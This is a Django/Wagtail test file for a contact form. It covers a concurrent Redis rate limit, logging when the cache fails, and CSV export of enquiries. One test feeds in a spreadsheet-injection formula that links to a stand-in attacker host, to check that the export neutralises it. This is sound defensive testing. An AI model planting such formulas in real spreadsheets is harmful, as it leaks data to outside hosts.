"""The contact form's limit holds when submissions arrive at once, and says so loudly when it cannot count.

The rate limit is counted before a submission is stored, atomically in Redis,
so twelve enquiries sent at once from one client to two app servers store
exactly five. If the counters cache refuses to count (unreachable, or full),
the enquiry is still taken and an ERROR is logged. The admin's CSV export of
enquiries neutralises cells a spreadsheet would run as a formula.
"""

import csv
import io
import logging
import os
import threading
import urllib.error
import urllib.parse
import urllib.request

import pytest
from bs4 import BeautifulSoup
from django.contrib.auth import get_user_model
from django.core.cache import caches
from django.core.management import call_command
from wagtail.contrib.forms.models import FormSubmission

from tests.app_server import database_url_for_app_servers, gunicorn
from tests.contacts.test_contact_page import VALID
from tests.markers import postgres_only, redis_only

SENT_AT_ONCE = 12


def _fetch_form(base_url):
    """A browser of its own with the form's CSRF cookie, and the token to post back."""
    browser = urllib.request.build_opener(urllib.request.HTTPCookieProcessor())
    with browser.open(base_url + "/contact/", timeout=30) as response:
        html = response.read()
    token = BeautifulSoup(html, "html.parser").find("input", {"name": "csrfmiddlewaretoken"})["value"]
    return browser, token


def _post(browser, base_url, token):
    data = urllib.parse.urlencode({**VALID, "csrfmiddlewaretoken": token}).encode()
    try:
        with browser.open(base_url + "/contact/", data=data, timeout=60) as response:
            return response.status
    except urllib.error.HTTPError as error:
        return error.code


@postgres_only
@redis_only
@pytest.mark.django_db(transaction=True, serialized_rollback=True)
def test_twelve_enquiries_sent_at_once_to_two_app_servers_store_exactly_five(settings):
    call_command("load_demo_content", stdout=io.StringIO())
    env = {"DATABASE_URL": database_url_for_app_servers(), "REDIS_URL": os.environ["REDIS_URL"]}
    with gunicorn(env, workers=2) as server_a, gunicorn(env, workers=2) as server_b:
        servers = [server_a, server_b]
        forms = [(servers[n % 2], *_fetch_form(servers[n % 2])) for n in range(SENT_AT_ONCE)]
        start = threading.Barrier(SENT_AT_ONCE)
        statuses = []

        def send(base_url, browser, token):
            start.wait()
            statuses.append(_post(browser, base_url, token))

        threads = [threading.Thread(target=send, args=form) for form in forms]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join(timeout=120)

    assert sorted(statuses) == [200] * settings.CONTACT_FORM_RATE_LIMIT + [429] * 7
    assert FormSubmission.objects.count() == settings.CONTACT_FORM_RATE_LIMIT


def test_a_form_sent_back_with_errors_does_not_use_up_the_limit(contact_page, client, settings):
    settings.CONTACT_FORM_RATE_LIMIT = 2

    mistakes = [client.post("/contact/", {**VALID, "your_email_address": "not-an-address"}) for _ in range(3)]
    sent = [client.post("/contact/", VALID).status_code for _ in range(3)]

    assert [response.status_code for response in mistakes] == [400] * 3
    assert sent == [200, 200, 429]


def test_a_full_counters_cache_is_logged_as_an_error_and_the_enquiry_is_still_taken(
    contact_page, client, monkeypatch, caplog
):
    def refuse(*args, **kwargs):
        raise OSError("OOM command not allowed when used memory > 'maxmemory'")

    monkeypatch.setattr(caches["counters"], "incr", refuse)

    with caplog.at_level(logging.ERROR, logger="celcis_site.security.throttle"):
        response = client.post("/contact/", VALID)

    assert response.status_code == 200
    assert FormSubmission.objects.count() == 1
    [record] = [record for record in caplog.records if record.name == "celcis_site.security.throttle"]
    assert record.levelno == logging.ERROR
    assert "Contact form rate limit not counted" in record.getMessage()


def test_the_csv_export_neutralises_formulas_a_visitor_typed(contact_page, client):
    formula = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
    client.post("/contact/", {**VALID, "your_name": formula, "your_message": "+1 call me, -2, @home"})
    client.force_login(get_user_model().objects.create_superuser("root", password="a-long-test-password"))

    export = client.get(f"/admin/forms/submissions/{contact_page.pk}/?export=csv")

    rows = list(csv.reader(io.StringIO(b"".join(export.streaming_content).decode("utf-8-sig"))))
    assert rows[1][1] == "'" + formula
    assert rows[1][4] == "'+1 call me, -2, @home"
    assert rows[1][2] == "alex@example.org"
